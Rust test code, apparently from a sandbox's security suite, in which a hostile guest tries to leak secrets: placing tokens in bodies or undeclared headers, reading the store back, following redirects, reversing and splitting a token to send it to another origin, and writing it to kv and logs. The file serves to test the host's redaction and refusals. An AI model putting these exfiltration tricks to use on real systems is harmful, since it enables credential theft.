//! Behaviours of the secrets class: every way the review got a secret's
//! plaintext into the guest, and every way out once it had one.

use crate::bindings::provisio::connector::{http as whttp, secrets as wsecrets};
use crate::*;

/// Runs `behaviour` if it belongs to this class.
pub(crate) fn run(behaviour: &str) -> Option<Result<String, ConnectorError>> {
    Some(match behaviour {
        "body-secret" => body_secret(),
        "url-secret-header" => header_unplaced(),
        "readback" => readback(None),
        "readback-second-secret" => readback(Some("token2")),
        "see-other" => see_other(),
        "encodings" => encodings(),
        "reversed-leak" => reversed_leak(),
        "login" => login(),
        "login-elsewhere" => login_elsewhere(),
        "login-wrong-path" => login_wrong_path(),
        "derived-elsewhere" => derived_elsewhere(),
        _ => return None,
    })
}

fn body(resp: &http::Response) -> String {
    String::from_utf8_lossy(&resp.body).into_owned()
}

/// What the guest saw, reversed: a form no redactor knows, so the host's
/// redaction of the call's result cannot hide what reached the guest (the
/// test reverses it back and searches it).
fn seen(text: String) -> String {
    text.chars().rev().collect()
}

/// A secret segment in a body: refused (bodies are written by the guest and
/// may be read back).
fn body_secret() -> Result<String, ConnectorError> {
    let mut req = request(Method::Post, url_from("url", "/store")?);
    req.body = Some(vec![text("{\"t\":\""), secret("token"), text("\"}")]);
    send(&req)?;
    Ok("LEAK: a secret was placed in a body".into())
}

/// A secret in a header its placements do not name.
fn header_unplaced() -> Result<String, ConnectorError> {
    let mut req = request(Method::Get, url_from("url", "/ping")?);
    req.headers.push(Header {
        name: "X-Other".into(),
        value: vec![secret("token")],
    });
    send(&req)?;
    Ok("LEAK: a secret was placed in an undeclared header".into())
}

/// Stores the token at the bound origin (in its declared header), then reads
/// the store back with a request that uses no secret (or a second one).
fn readback(second: Option<&str>) -> Result<String, ConnectorError> {
    let mut store = request(Method::Post, url_from("url", "/store")?);
    store.headers.push(Header {
        name: "X-Token".into(),
        value: vec![secret("token")],
    });
    send(&store)?;
    let mut read = request(Method::Get, url_from("url", "/stored")?);
    if let Some(s) = second {
        read.auth = Some(Auth::Bearer(vec![secret(s)]));
    }
    Ok(seen(body(&send(&read)?)))
}

/// A POST with the token whose 303 leads to a hop that reads the store.
fn see_other() -> Result<String, ConnectorError> {
    let mut req = request(Method::Post, url_from("url", "/see-other")?);
    req.headers.push(Header {
        name: "X-Token".into(),
        value: vec![secret("token")],
    });
    Ok(seen(body(&send(&req)?)))
}

/// The bound origin answers with the bearer token in every encoding.
fn encodings() -> Result<String, ConnectorError> {
    let mut req = request(Method::Get, url_from("url", "/reflect")?);
    req.auth = bearer_token();
    let resp = send(&req)?;
    let headers: Vec<String> = resp
        .headers
        .iter()
        .map(|(k, v)| format!("{k}: {v}"))
        .collect();
    Ok(seen(format!("{}\n{}", headers.join("\n"), body(&resp))))
}

/// The bound origin answers with the token reversed, a form no scrubber
/// knows: the guest now holds the plaintext. Every way out must refuse or
/// redact it: another origin (URL, header, body), kv, logs, the result.
fn reversed_leak() -> Result<String, ConnectorError> {
    let mut req = request(Method::Get, url_from("url", "/reversed")?);
    req.auth = bearer_token();
    let reversed = body(&send(&req)?);
    let plain: String = reversed.chars().rev().collect();
    let mut outcomes = Vec::new();
    let other = url_from("other_url", "/echo")?;
    let attempts = [
        request(Method::Get, format!("{other}?t={plain}")),
        Request {
            headers: vec![Header {
                name: "X-Leak".into(),
                value: vec![text(&format!("pre-{plain}-post"))],
            }],
            ..request(Method::Get, other.clone())
        },
        Request {
            body: Some(vec![
                text("{\"t\":\""),
                text(&plain[..4]),
                text(&plain[4..]),
                text("\"}"),
            ]),
            ..request(Method::Post, other.clone())
        },
    ];
    for a in &attempts {
        outcomes.push(match http::send(a) {
            Ok(r) => format!("LEAK-SENT {}", r.status),
            Err(HttpError::Denied(_)) => "denied".to_string(),
            Err(e) => format!("error {e:?}"),
        });
    }
    kv::set("stolen", plain.as_bytes(), 60);
    log::emit(
        log::Level::Warn,
        &format!("stolen {plain}"),
        &[("t".into(), plain.clone())],
    );
    Ok(format!("{} | result carries {plain}", outcomes.join(",")))
}

/// The login exchange: the host builds the body with the password and keeps
/// the session; the guest then uses the session by name.
fn login() -> Result<String, ConnectorError> {
    let resp = whttp::login("login", &url_from("url", "/login")?, &[]).map_err(map_http_error)?;
    let derived = wsecrets::derived();
    let mut who = request(Method::Get, url_from("url", "/whoami")?);
    who.headers.push(Header {
        name: "Authorization".into(),
        value: vec![text("Session "), secret("session")],
    });
    let who = send(&who)?;
    wsecrets::forget("session");
    let after = wsecrets::derived();
    Ok(seen(format!(
        "login {} captured {:?} derived {:?} whoami {} after-forget {:?}\n{}\n{}",
        resp.status,
        resp.captured,
        derived,
        who.status,
        after,
        String::from_utf8_lossy(&resp.body),
        body(&who)
    )))
}

/// The login exchange aimed at an origin the password is not bound to.
fn login_elsewhere() -> Result<String, ConnectorError> {
    whttp::login("login", &url_from("other_url", "/login")?, &[]).map_err(map_http_error)?;
    Ok("LEAK: the password went to an unbound origin".into())
}

/// The login exchange aimed at a path that is not the declared one.
fn login_wrong_path() -> Result<String, ConnectorError> {
    whttp::login("login", &url_from("url", "/store")?, &[]).map_err(map_http_error)?;
    Ok("LEAK: the password went to an undeclared path".into())
}

/// A derived session sent to another granted origin.
fn derived_elsewhere() -> Result<String, ConnectorError> {
    whttp::login("login", &url_from("url", "/login")?, &[]).map_err(map_http_error)?;
    let mut req = request(Method::Get, url_from("other_url", "/echo")?);
    req.headers.push(Header {
        name: "Authorization".into(),
        value: vec![text("Session "), secret("session")],
    });
    send(&req)?;
    Ok("LEAK: the session went to another origin".into())
}
